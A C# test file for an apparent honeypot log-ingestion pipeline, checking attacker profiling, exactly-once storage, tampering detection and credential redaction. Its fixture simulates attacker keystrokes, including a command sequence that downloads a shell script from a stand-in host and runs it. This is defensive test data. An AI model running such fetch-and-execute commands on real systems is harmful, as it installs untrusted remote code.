using Decnet.Collector.PodLogs;
using Decnet.Spool;
using Microsoft.EntityFrameworkCore;

namespace Decnet.Ingester.Tests;

public sealed class PipelineTests : IDisposable
{
    private const string Text = "cd /var/tmp\rwget http://198.51.100.9/x.sh\rchmod +x x.sh\r./x.sh\rexit\r";
    private readonly Pipeline _pipeline = new();

    private static CancellationToken Cancelled => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_person_and_a_robot_become_two_attackers_with_two_verdicts()
    {
        await File.AppendAllTextAsync(_pipeline.Shard("web"), Recorded.Session(1, "203.0.113.7", Text, new Random(3)) + Recorded.Session(2, "::ffff:198.51.100.23", Text), Cancelled);
        await File.AppendAllTextAsync(_pipeline.Shard("mail"), Recorded.Session(3, "203.0.113.7", Text, new Random(4)), Cancelled);
        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();
        await _pipeline.ProfileAsync();
        await _pipeline.ProfileAsync();

        await using var db = _pipeline.Db();
        var attackers = await db.Attackers.OrderBy(attacker => attacker.Address).ToListAsync(Cancelled);
        Assert.Equal([("198.51.100.23", 1, "script"), ("203.0.113.7", 2, "human")], attackers.Select(one => (one.Address, one.Sessions, one.Verdict)));
        Assert.Equal("""["lab/web","lab/mail"]""", attackers[1].Deckies);
        Assert.True(attackers[1].Score > attackers[0].Score);
        Assert.Equal(["cd /var/tmp", "wget http://198.51.100.9/x.sh", "chmod +x x.sh", "./x.sh", "exit"],
            await db.Commands.Where(command => command.SessionId == 1).OrderBy(command => command.Number).Select(command => command.Text).ToListAsync(Cancelled));
        Assert.Equal(2, _pipeline.Topics.Count(topic => topic == "attacker.observed"));
        Assert.Equal(3, _pipeline.Topics.Count(topic => topic == "attacker.session.started"));
        Assert.Equal(3, _pipeline.Topics.Count(topic => topic == "attacker.session.ended"));
    }

    [Fact]
    public async Task Whoever_is_killed_whenever_each_thing_is_stored_once()
    {
        var random = new Random(5);
        var (written, attempts) = (0, 0);
        for (var round = 0; round < 60; round++)
        {
            for (var n = random.Next(4); n > 0; n--, written++)
                await File.AppendAllTextAsync(_pipeline.Shard($"d{written % 5}"), Recorded.Session(written), Cancelled);
            for (var n = random.Next(3); n > 0; n--)
                await AttemptAsync(++attempts);
            // A collector that dies between spool and checkpoint reads and tells again.
            await _pipeline.CollectAsync(save: random.Next(3) > 0);
            if (random.Next(3) == 0)
                _pipeline.RestartCollector();
            await _pipeline.IngestAsync();
            if (random.Next(3) == 0)
                _pipeline.RestartIngester();
        }

        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();
        await using var db = _pipeline.Db();
        Assert.Equal(written, await db.Sessions.CountAsync(session => session.Reason == "exit", Cancelled));
        Assert.Equal(written, await db.Sessions.CountAsync(Cancelled));
        Assert.Equal(attempts, await db.Logs.CountAsync(log => log.MessageId == "auth_attempt", Cancelled));
        Assert.Equal(attempts, await db.Credentials.SumAsync(credential => credential.Count, Cancelled));
    }

    [Fact]
    public async Task A_store_that_broke_is_filled_again_from_the_spool()
    {
        await File.AppendAllTextAsync(_pipeline.Shard("web"), Recorded.Session(1), Cancelled);
        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();
        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
        _pipeline.Break();
        await File.AppendAllTextAsync(_pipeline.Shard("web"), Recorded.Session(2), Cancelled);
        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();

        await using var db = _pipeline.Db();
        Assert.Equal([Recorded.Sid(1), Recorded.Sid(2)], await db.Sessions.OrderBy(session => session.Sid).Select(session => session.Sid).ToListAsync(Cancelled));
    }

    [Fact]
    public async Task Tampering_is_stored_and_told_and_forged_identity_has_no_effect()
    {
        await File.AppendAllTextAsync(_pipeline.Shard("web"), Recorded.Session(1), Cancelled);
        await _pipeline.CollectAsync();
        await File.WriteAllTextAsync(_pipeline.Shard("web"), "gone\n", Cancelled);
        await TakeAsync(900, "<134>1 2026-05-01T10:00:00Z victim sessrec - auth_attempt [relay@55555 decky=\"victim\" namespace=\"other\" src_ip=\"not an address\" username=\"u\" secret=\"zQ9#secret\" secret_b64=\"elE5I3NlY3JldA==\" result=\"accepted\"]");
        await TakeAsync(901, "daemon noise that is no message");
        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();

        await using var db = _pipeline.Db();
        Assert.Equal("exit", (await db.Sessions.SingleAsync(Cancelled)).Reason);
        Assert.Contains("decky.lab_web.state", _pipeline.Topics);
        var credential = await db.Credentials.SingleAsync(Cancelled);
        Assert.Equal(("lab", "web", "", "zQ9#secret"), (credential.Namespace, credential.Decky, credential.Address, credential.Secret));
        var logs = await db.Logs.OrderBy(log => log.MessageId).ToListAsync(Cancelled);
        Assert.Equal(["auth_attempt", "shard_tampered"], logs.Select(log => log.MessageId));
        Assert.All(logs, log => Assert.DoesNotContain("zQ9", log.Fields));
    }

    [Fact]
    public async Task Sessions_whose_machine_is_gone_are_closed_as_lost_and_a_later_end_wins()
    {
        await File.AppendAllTextAsync(_pipeline.Shard("web"), Recorded.Header(1, "203.0.113.7") + Recorded.Typed(1, "ls\r", null), Cancelled);
        await _pipeline.CollectAsync();
        _pipeline.Collection.CloseLost("boot", pods: null);
        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();
        await using (var db = _pipeline.Db())
            Assert.Null((await db.Sessions.SingleAsync(Cancelled)).EndedUs);

        _pipeline.Collection.CloseLost("boot", pods: new PodList(TimeProvider.System.GetUtcNow().AddSeconds(1), [], []));
        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();
        await _pipeline.ProfileAsync();

        await using (var db = _pipeline.Db())
        {
            Assert.Equal("lost", (await db.Sessions.SingleAsync(Cancelled)).Reason);
            Assert.Equal(3, (await db.SessionProfiles.SingleAsync(Cancelled)).Profile.TotalKeystrokes);
        }
    }

    [Fact]
    public async Task The_operator_s_own_log_in_is_no_attacker_and_one_who_claims_to_be_the_operator_is()
    {
        var now = TimeProvider.System.GetUtcNow().AddMinutes(-5).ToUnixTimeMilliseconds() * 1000;
        await TakeAsync(1, Attempt("jtavoker83", "10.42.0.9"), now);
        await _pipeline.Collection.TakeAsync(
            [new CollectedProof { Namespace = "lab", Decky = "web", Source = "uid/operator", Position = 1, AtUs = now - 1000, Service = "ssh", User = "jtavoker83" }],
            "uid/operator", new LogPosition(1, 1), Cancelled);
        await TakeAsync(2, "<134>1 2026-05-01T10:00:00Z web operator - proof_login [relay@55555 namespace=\"lab\" decky=\"web\" service=\"ssh\" username=\"bdavoker84\"]", now + 2);
        await TakeAsync(3, Attempt("bdavoker84", "203.0.113.7"), now + 3);
        await _pipeline.CollectAsync();
        await _pipeline.IngestAsync();
        await _pipeline.ProfileAsync();

        await using var db = _pipeline.Db();
        Assert.Equal("203.0.113.7", (await db.Attackers.SingleAsync(Cancelled)).Address);
        Assert.Equal("bdavoker84", (await db.Credentials.SingleAsync(Cancelled)).UserName);
        Assert.Equal(2, await db.Logs.CountAsync(log => log.MessageId == "auth_attempt", Cancelled));
    }

    public void Dispose() => _pipeline.Dispose();

    private static string Attempt(string user, string address) =>
        $"<134>1 2026-05-01T10:00:00Z web sessrec - auth_attempt [relay@55555 service=\"ssh\" src_ip=\"{address}\" username=\"{user}\" result=\"refused\"]";

    private Task AttemptAsync(int number) => TakeAsync(
        number, $"<134>1 2026-05-01T10:00:00Z web sessrec - auth_attempt [relay@55555 service=\"ssh\" src_ip=\"2001:db8::1\" username=\"root\" secret=\"{number % 7}\" secret_b64=\"MQ==\" result=\"refused\"]");

    private async Task TakeAsync(int position, string text, long? at = null) => await _pipeline.Collection.TakeAsync(
        [new CollectedLine { Namespace = "lab", Decky = "web", Pod = "web-x", Source = "uid/machine", Position = position, AtUs = at ?? position, Text = text }],
        "uid/machine", new LogPosition(position, 1), Cancelled);
}
